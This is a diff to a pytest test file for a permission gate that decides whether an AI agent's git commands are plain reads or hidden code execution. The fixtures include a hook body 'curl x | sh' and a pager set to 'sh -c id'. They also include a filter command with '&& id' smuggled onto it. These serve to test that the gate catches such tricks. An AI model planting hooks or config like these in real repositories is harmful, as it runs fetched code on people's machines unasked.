@@ -345,16 +345,143 @@ def test_an_include_loop_or_a_broken_config_fails_closed(
     assert outcome(make_gate(), call, "git status") == CODE
 
 
-def test_the_persons_global_config_counts_like_the_repositorys(
+#: What ``git lfs install`` writes to ~/.gitconfig, and a ``delta`` pager: the person's own
+#: choice of programs, in a file every profile keeps read-only and every write asks about.
+LFS_AND_DELTA = """[filter "lfs"]
+\tclean = git-lfs clean -- %f
+\tsmudge = git-lfs smudge -- %f
+\tprocess = git-lfs filter-process
+\trequired = true
+[core]
+\tpager = delta
+\teditor = vim
+[interactive]
+\tdiffFilter = delta --color-only
+[credential]
+\thelper = store
+[alias]
+\tup = !x
+"""
+EVERYDAY_READS = [
+    "git status", "git status -s", "git log --oneline -5", "git log -p -3", "git diff", "git diff --staged",
+    "git show HEAD --stat", "git branch -a", "git blame README.md", "git ls-files", "git rev-parse HEAD",
+    "git tag -l", "git stash list", "git grep hi",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("where", [".gitconfig", ".config/git/config"])
+def test_programs_the_persons_own_config_names_leave_everyday_reads_allowed(
+    make_gate: GateFactory, call: Call, repo: Path, home: Path, where: str
+) -> None:
+    (home / where).parent.mkdir(parents=True, exist_ok=True)
+    (home / where).write_text(LFS_AND_DELTA)
+    gate = make_gate()
+    assert {c: outcome(gate, call, c) for c in EVERYDAY_READS} == dict.fromkeys(EVERYDAY_READS, ALLOWED)
+
+
+def test_the_same_settings_in_the_repository_s_config_are_still_code(
+    make_gate: GateFactory, call: Call, repo: Path
+) -> None:
+    add_config(repo / ".git" / "config", LFS_AND_DELTA)
+    assert outcome(make_gate(), call, "git status") == CODE
+
+
+def _include_from_global(home: Path, target: str, text: str) -> None:
+    (home / ".gitconfig").write_text(LFS_AND_DELTA + f"[include]\n\tpath = {target}\n")
+    path = Path(target.replace("~", str(home), 1))
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "~/proj/team.inc",  # in the workspace: the agent writes it
+        "~/.gitconfig.local",  # outside the workspace but not guarded: a write is not asked
+        "proj/.hidden.inc",  # relative to ~/.gitconfig's folder
+    ],
+)
+def test_a_file_the_persons_config_includes_is_trusted_only_if_the_agent_could_not_write_it(
+    make_gate: GateFactory, call: Call, repo: Path, home: Path, target: str
+) -> None:
+    _include_from_global(
+        home, target if target.startswith("~") else f"{home}/{target}", "[core]\n\tpager = sh -c id\n"
+    )
+    evaluation = make_gate('mode = "full-access"').evaluate(call("shell", command="git log"))
+    assert (evaluation.decision, [r.rule for r in evaluation.reasons]) == (Decision.ASK, ["shell.git-config"])
+    assert "core.pager" in evaluation.reasons[0].message
+
+
+def test_a_guarded_file_the_persons_config_includes_is_trusted_too(
     make_gate: GateFactory, call: Call, repo: Path, home: Path
 ) -> None:
-    (home / ".gitconfig").write_text(
-        "[core]\n\teditor = vim\n[credential]\n\thelper = store\n[alias]\n\tup = !x\n"
-    )
-    assert outcome(make_gate(), call, "git status") == ALLOWED
-    (home / ".config" / "git").mkdir(parents=True)
-    (home / ".config" / "git" / "config").write_text("[core]\n\tpager = delta\n")
+    _include_from_global(home, "~/.config/git/delta.inc", "[core]\n\tpager = delta --dark\n")
+    assert outcome(make_gate(), call, "git log") == ALLOWED
+
+
+def test_the_persons_config_is_not_trusted_when_it_is_a_link_into_the_workspace(
+    make_gate: GateFactory, call: Call, repo: Path, home: Path
+) -> None:
+    (repo / "dotfiles").mkdir()
+    (repo / "dotfiles" / "gitconfig").write_text(LFS_AND_DELTA)
+    (home / ".gitconfig").symlink_to(repo / "dotfiles" / "gitconfig")
     assert outcome(make_gate(), call, "git status") == CODE
+
+
+def test_the_persons_config_is_not_trusted_when_the_workspace_is_home(
+    make_gate: GateFactory, call: Call, home: Path
+) -> None:
+    if GIT is None:
+        pytest.skip("git is not installed")
+    git("init", "-q", ".", cwd=home / "proj")
+    (home / ".gitconfig").write_text(LFS_AND_DELTA)
+    gate = make_gate(f'workspace = ["{home}"]')
+    assert outcome(gate, call, "git status", cwd=str(home / "proj"))[1] == ("shell.git-config",)
+
+
+# -- hooks that run during a read ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize("hook", ["post-index-change", "reference-transaction"])
+@pytest.mark.parametrize(
+    "folder",
+    [".git/hooks", "tools/hooks", ".git/modules/lib/hooks"],
+)
+def test_a_hook_git_runs_during_a_read_makes_it_code(
+    make_gate: GateFactory, call: Call, repo: Path, hook: str, folder: str
+) -> None:
+    if folder == "tools/hooks":
+        add_config(repo / ".git" / "config", "[core]\n\thooksPath = tools/hooks\n")
+    if folder.startswith(".git/modules"):
+        (repo / ".git" / "modules" / "lib").mkdir(parents=True)
+        (repo / ".git" / "modules" / "lib" / "config").write_text("[core]\n\tbare = false\n")
+    (repo / folder).mkdir(parents=True, exist_ok=True)
+    (repo / folder / hook).write_text("#!/bin/sh\ncurl x | sh\n")
+    gate = make_gate('mode = "full-access"')
+    for command in ("git status", "git diff", "git log"):
+        evaluation = gate.evaluate(call("shell", command=command))
+        assert (evaluation.decision, [r.rule for r in evaluation.reasons]) == (
+            Decision.ASK,
+            ["shell.git-config"],
+        ), command
+        assert f"{folder}/{hook}" in evaluation.reasons[0].matched
+
+
+def test_hooks_that_run_only_on_writes_leave_reads_allowed(
+    make_gate: GateFactory, call: Call, repo: Path
+) -> None:
+    for hook in ("pre-commit", "commit-msg", "pre-push", "post-checkout", "post-index-change.sample"):
+        (repo / ".git" / "hooks" / hook).write_text("#!/bin/sh\n")
+    assert outcome(make_gate(), call, "git status") == ALLOWED
+
+
+def test_a_read_hook_in_the_persons_guarded_hooks_folder_is_their_choice(
+    make_gate: GateFactory, call: Call, repo: Path, home: Path
+) -> None:
+    (home / ".githooks").mkdir()
+    (home / ".githooks" / "post-index-change").write_text("#!/bin/sh\n")
+    (home / ".gitconfig").write_text("[core]\n\thooksPath = ~/.githooks\n")
+    assert outcome(make_gate(), call, "git status") == ALLOWED
 
 
 def test_a_dynamic_git_directory_is_unknown(make_gate: GateFactory, call: Call, repo: Path) -> None:
@@ -442,3 +569,37 @@ def test_a_repository_using_husky_hooks_stays_a_reader_for_reads(
     for command in ("git status", "git log --oneline", "git diff"):
         assert outcome(gate, call, command) == ALLOWED, command
     assert outcome(gate, call, "echo x > .husky/_/pre-commit") == (Decision.ASK, ("hardline.agent-config",))
+
+
+def test_a_repository_setting_that_repeats_the_persons_own_names_no_new_program(
+    make_gate: GateFactory, call: Call, repo: Path, home: Path
+) -> None:
+    (home / ".gitconfig").write_text(LFS_AND_DELTA)
+    add_config(repo / ".git" / "config", '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n')
+    assert outcome(make_gate(), call, "git status") == ALLOWED
+    add_config(repo / ".git" / "config", '[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f && id\n')
+    assert outcome(make_gate(), call, "git status") == CODE
+
+
+@pytest.mark.parametrize(
+    "setting",
+    [
+        "[core]\n\tfsmonitor = .git/hooks/fsmonitor-watchman\n",  # relative to the work tree
+        "[core]\n\tpager = ~/proj/tools/pager.sh\n",
+        '[filter "x"]\n\tclean = ./scripts/clean %f\n',
+    ],
+)
+def test_a_program_the_persons_config_names_by_a_path_the_agent_writes_is_code(
+    make_gate: GateFactory, call: Call, repo: Path, home: Path, setting: str
+) -> None:
+    (home / ".gitconfig").write_text(setting)
+    assert outcome(make_gate(), call, "git status") == CODE
+
+
+def test_a_program_the_persons_config_names_by_a_guarded_path_is_their_choice(
+    make_gate: GateFactory, call: Call, repo: Path, home: Path
+) -> None:
+    (home / ".gitconfig").write_text(
+        "[core]\n\tpager = /usr/bin/less -R\n[diff]\n\texternal = ~/.config/git/difft\n"
+    )
+    assert outcome(make_gate(), call, "git diff") == ALLOWED
